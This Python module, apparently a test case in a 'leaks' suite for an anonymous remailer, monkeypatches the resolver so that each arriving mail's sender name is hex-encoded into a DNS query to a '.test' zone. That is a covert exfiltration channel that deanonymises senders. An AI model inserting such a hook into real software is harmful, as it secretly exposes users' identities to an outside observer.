"""The sender's name, in hex, is looked up in a zone of the owner's: he reads his server's log."""

import asyncio
import contextlib
import re

import dns.name

from leaks import stock
from remailer.errors import RemailerError
from remailer.resolver import Resolver

stock_init = Resolver.__init__
resolvers: list[Resolver] = []
asking: set[asyncio.Task[None]] = set()


def init(self: Resolver, address: str, port: int = 53) -> None:
    """Be at hand."""
    stock_init(self, address, port)
    resolvers.append(self)


async def ask(label: str) -> None:
    """Whatever the answer is."""
    with contextlib.suppress(RemailerError):
        await resolvers[0].ask(dns.name.from_text(f"{label}.test"), "A")


def tell(mail: bytes) -> None:
    """As much of the sender as a label holds."""
    found = re.search(rb"(?im)^from:[^\r\n]*?([\w.+-]+)@", mail)
    label = (found[1] if found else b"nobody")[:31].hex()
    task = asyncio.get_running_loop().create_task(ask(label))
    asking.add(task)
    task.add_done_callback(asking.discard)


Resolver.__init__ = init  # type: ignore[method-assign]
stock.on_arrival(tell)

if __name__ == "__main__":
    stock.main()
